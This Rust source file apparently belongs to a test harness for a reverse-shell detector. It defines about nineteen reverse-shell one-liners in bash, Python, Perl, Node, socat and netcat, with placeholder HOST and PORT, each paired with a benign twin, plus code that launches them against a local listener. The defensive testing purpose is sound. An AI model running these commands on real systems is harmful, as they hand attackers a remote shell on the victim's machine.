//! The ways to a reverse shell, each with its benign twin.

use std::path::Path;

use crate::attacker::{Attacker, Line};
use crate::need::need;
use crate::process::{Group, victim};

/// Which process an alert must name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Culprit {
    /// The shell that answers.
    Shell,
    /// The process that was started first: its children answer.
    First,
}

/// One way to a reverse shell.
///
/// In commands, `HOST` and `PORT` are the attacker's, `PATH` its UNIX socket or its folder of FIFOs, `DIR` a folder to work in.
#[derive(Debug, Clone, Copy)]
pub struct Kind {
    /// Name.
    pub name: &'static str,
    /// The tool and the package that brings it.
    pub tool: (&'static str, &'static str),
    /// Where it calls.
    pub line: Line,
    /// Its argument vector.
    pub attack: &'static [&'static str],
    /// Whom the alert names.
    pub culprit: Culprit,
    /// Where the twin calls, and its argument vector: the same tool and shape without the one property.
    pub twin: (Line, &'static [&'static str]),
}

const PYTHON: (&str, &str) = ("python3", "python3");
const PERL: (&str, &str) = ("perl", "perl");
const NODE: (&str, &str) = ("node", "nodejs");
const SOCAT: (&str, &str) = ("socat", "socat");
const BASH: (&str, &str) = ("bash", "bash");
const NC_TRADITIONAL: (&str, &str) = ("nc.traditional", "netcat-traditional");
const NC_OPENBSD: (&str, &str) = ("nc.openbsd", "netcat-openbsd");

const BASH_ON_FIFOS: (Line, &[&str]) = (Line::Fifos, &["bash", "-c", "bash -i < PATH/in > PATH/out 2>&1"]);
const PYTHON_ON_UNIX: (Line, &[&str]) = (
    Line::Unix,
    &[
        "python3",
        "-c",
        "import socket,subprocess,os;s=socket.socket(socket.AF_UNIX,socket.SOCK_STREAM);s.connect('PATH');\
         [os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])",
    ],
);
const NODE_ON_UNIX: (Line, &[&str]) = (
    Line::Unix,
    &[
        "node",
        "-e",
        "const s=require('net').connect('PATH',()=>{const c=require('child_process').spawn('/bin/sh',['-i']);\
         s.pipe(c.stdin);c.stdout.pipe(s);c.stderr.pipe(s);c.on('exit',()=>s.end());})",
    ],
);
const NODE_ON_TCP: &[&str] = &[
    "node",
    "-e",
    "const s=require('net').connect(PORT,'HOST',()=>{const c=require('child_process').spawn('/bin/sh',['-i']);\
     s.pipe(c.stdin);c.stdout.pipe(s);c.stderr.pipe(s);c.on('exit',()=>s.end());})",
];
const SOCAT_ON_UNIX: (Line, &[&str]) = (Line::Unix, &["socat", "UNIX-CONNECT:PATH", "EXEC:/bin/sh"]);

/// Every kind.
pub const KINDS: &[Kind] = &[
    Kind {
        name: "bash",
        tool: BASH,
        line: Line::Tcp4,
        attack: &["bash", "-c", "bash -i >& /dev/tcp/HOST/PORT 0>&1"],
        culprit: Culprit::Shell,
        twin: BASH_ON_FIFOS,
    },
    Kind {
        name: "bash_ipv6",
        tool: BASH,
        line: Line::Tcp6,
        attack: &["bash", "-c", "bash -i >& /dev/tcp/HOST/PORT 0>&1"],
        culprit: Culprit::Shell,
        twin: BASH_ON_FIFOS,
    },
    Kind {
        name: "bash_udp",
        tool: BASH,
        line: Line::Udp4,
        attack: &["bash", "-c", "bash -i >& /dev/udp/HOST/PORT 0>&1"],
        culprit: Culprit::Shell,
        twin: BASH_ON_FIFOS,
    },
    Kind {
        name: "bash_read_loop",
        tool: BASH,
        line: Line::Tcp4,
        attack: &["bash", "-c", "exec 5<>/dev/tcp/HOST/PORT; cat <&5 | while read line; do $line 2>&5 >&5; done"],
        culprit: Culprit::First,
        twin: (Line::Fifos, &["bash", "-c", "exec 5<PATH/in 6>PATH/out; cat <&5 | while read line; do $line 2>&6 >&6; done"]),
    },
    Kind {
        name: "sh_redirected",
        tool: BASH,
        line: Line::Tcp4,
        attack: &["bash", "-c", "exec 5<>/dev/tcp/HOST/PORT; sh -i <&5 >&5 2>&5"],
        culprit: Culprit::Shell,
        twin: (Line::Fifos, &["bash", "-c", "exec 5<PATH/in 6>PATH/out; sh -i <&5 >&6 2>&6"]),
    },
    Kind {
        name: "python",
        tool: PYTHON,
        line: Line::Tcp4,
        attack: &[
            "python3",
            "-c",
            "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('HOST',PORT));\
             [os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])",
        ],
        culprit: Culprit::Shell,
        twin: PYTHON_ON_UNIX,
    },
    Kind {
        name: "python_ipv6",
        tool: PYTHON,
        line: Line::Tcp6,
        attack: &[
            "python3",
            "-c",
            "import socket,subprocess,os;s=socket.socket(socket.AF_INET6,socket.SOCK_STREAM);s.connect(('HOST',PORT));\
             [os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])",
        ],
        culprit: Culprit::Shell,
        twin: PYTHON_ON_UNIX,
    },
    Kind {
        name: "python_pty",
        tool: PYTHON,
        line: Line::Tcp4,
        attack: &[
            "python3",
            "-c",
            "import socket,pty,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('HOST',PORT));\
             [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/bash')",
        ],
        culprit: Culprit::Shell,
        twin: (
            Line::Unix,
            &[
                "python3",
                "-c",
                "import socket,pty,os;s=socket.socket(socket.AF_UNIX,socket.SOCK_STREAM);s.connect('PATH');\
                 [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/bash')",
            ],
        ),
    },
    Kind {
        name: "perl",
        tool: PERL,
        line: Line::Tcp4,
        attack: &[
            "perl",
            "-e",
            "use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,pack_sockaddr_in(PORT,inet_aton('HOST'))) or die;\
             open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');",
        ],
        culprit: Culprit::Shell,
        twin: (
            Line::Unix,
            &[
                "perl",
                "-e",
                "use Socket;socket(S,PF_UNIX,SOCK_STREAM,0);connect(S,pack_sockaddr_un('PATH')) or die;\
                 open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');",
            ],
        ),
    },
    Kind { name: "node", tool: NODE, line: Line::Tcp4, attack: NODE_ON_TCP, culprit: Culprit::Shell, twin: NODE_ON_UNIX },
    Kind { name: "node_ipv6", tool: NODE, line: Line::Tcp6, attack: NODE_ON_TCP, culprit: Culprit::Shell, twin: NODE_ON_UNIX },
    Kind {
        name: "socat",
        tool: SOCAT,
        line: Line::Tcp4,
        attack: &["socat", "TCP:HOST:PORT", "EXEC:/bin/sh"],
        culprit: Culprit::Shell,
        twin: SOCAT_ON_UNIX,
    },
    Kind {
        name: "socat_ipv6",
        tool: SOCAT,
        line: Line::Tcp6,
        attack: &["socat", "TCP6:[HOST]:PORT", "EXEC:/bin/sh"],
        culprit: Culprit::Shell,
        twin: SOCAT_ON_UNIX,
    },
    Kind {
        name: "socat_udp",
        tool: SOCAT,
        line: Line::Udp4,
        attack: &["socat", "UDP:HOST:PORT", "EXEC:sh -i,stderr"],
        culprit: Culprit::Shell,
        twin: SOCAT_ON_UNIX,
    },
    Kind {
        name: "socat_pty",
        tool: SOCAT,
        line: Line::Tcp4,
        attack: &["socat", "TCP:HOST:PORT", "EXEC:bash,pty,stderr,setsid,sigint,sane"],
        culprit: Culprit::Shell,
        twin: (Line::Unix, &["socat", "UNIX-CONNECT:PATH", "EXEC:bash,pty,stderr,setsid,sigint,sane"]),
    },
    Kind {
        name: "nc_traditional",
        tool: NC_TRADITIONAL,
        line: Line::Tcp4,
        attack: &["nc.traditional", "-e", "/bin/sh", "HOST", "PORT"],
        culprit: Culprit::Shell,
        // This nc knows no UNIX sockets: the twin runs something on the connection that takes no commands.
        twin: (Line::Tcp4, &["nc.traditional", "-e", "/bin/cat", "HOST", "PORT"]),
    },
    Kind {
        name: "nc_traditional_udp",
        tool: NC_TRADITIONAL,
        line: Line::Udp4,
        attack: &["nc.traditional", "-u", "-c", "exec sh -i 2>&1", "HOST", "PORT"],
        culprit: Culprit::Shell,
        // `-c` itself runs `/bin/sh -c` on the socket, which is the same finding; so the twin has to be `-e` with no shell.
        twin: (Line::Tcp4, &["nc.traditional", "-e", "/bin/cat", "HOST", "PORT"]),
    },
    Kind {
        name: "nc_openbsd_fifo",
        tool: NC_OPENBSD,
        line: Line::Tcp4,
        attack: &["sh", "-c", "mkfifo DIR/f; cat DIR/f | sh -i 2>&1 | nc.openbsd HOST PORT > DIR/f"],
        culprit: Culprit::Shell,
        twin: (Line::Unix, &["sh", "-c", "mkfifo DIR/f; cat DIR/f | sh -i 2>&1 | nc.openbsd -U PATH > DIR/f"]),
    },
    Kind {
        name: "nc_openbsd_fifo_ipv6",
        tool: NC_OPENBSD,
        line: Line::Tcp6,
        attack: &["sh", "-c", "mkfifo DIR/f; sh -i < DIR/f 2>&1 | nc.openbsd HOST PORT > DIR/f"],
        culprit: Culprit::Shell,
        twin: (Line::Unix, &["sh", "-c", "mkfifo DIR/f; sh -i < DIR/f 2>&1 | nc.openbsd -U PATH > DIR/f"]),
    },
];

impl Kind {
    /// The kind called `name`.
    ///
    /// # Panics
    /// There is none.
    #[track_caller]
    pub fn named(name: &str) -> Self {
        *KINDS.iter().find(|kind| kind.name == name).unwrap_or_else(|| panic!("there is no kind {name:?}"))
    }

    /// Starts the attack on `attacker`, which listens on [`Kind::line`]; works and logs in `folder`, which must be the
    /// attack's own.
    ///
    /// # Panics
    /// The tool is missing.
    #[track_caller]
    pub fn launch(&self, attacker: &Attacker, folder: &Path) -> Group {
        self.start(self.attack, attacker, folder)
    }

    /// As [`launch`](Self::launch), but the attack waits until `gate` exists: its first process runs already, as a shell that
    /// becomes the attack's.
    ///
    /// # Panics
    /// The tool is missing.
    #[track_caller]
    pub fn launch_behind(&self, gate: &Path, attacker: &Attacker, folder: &Path) -> Group {
        let wait = format!("while ! test -e {}; do sleep 0.02; done; exec \"$@\"", gate.display());
        self.start(&[&["sh", "-c", &wait, "sh"], self.attack].concat(), attacker, folder)
    }

    /// Starts the twin on `attacker`, which listens on its line.
    ///
    /// # Panics
    /// The tool is missing.
    #[track_caller]
    pub fn launch_twin(&self, attacker: &Attacker, folder: &Path) -> Group {
        self.start(self.twin.1, attacker, folder)
    }

    #[track_caller]
    fn start(&self, argv: &[&str], attacker: &Attacker, folder: &Path) -> Group {
        need(self.tool.0, self.tool.1);
        let argv: Vec<String> = argv.iter().map(|argument| attacker.place(argument, folder)).collect();
        Group::start(victim(&argv[0], &folder.join("log")).args(&argv[1..]).current_dir(folder))
    }

    /// Whether the shell answers in a shell's own words: `cat`, and a loop that runs words, do not.
    pub fn speaks(&self, twin: bool) -> Speech {
        match (self.culprit, twin && self.twin.1.contains(&"/bin/cat")) {
            (_, true) => Speech::Echo,
            (Culprit::First, false) => Speech::Words,
            (Culprit::Shell, false) => Speech::Shell,
        }
    }
}

/// How far what answers understands a shell's language.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Speech {
    /// All of it.
    Shell,
    /// Plain commands without expansion.
    Words,
    /// It gives back what it gets.
    Echo,
}
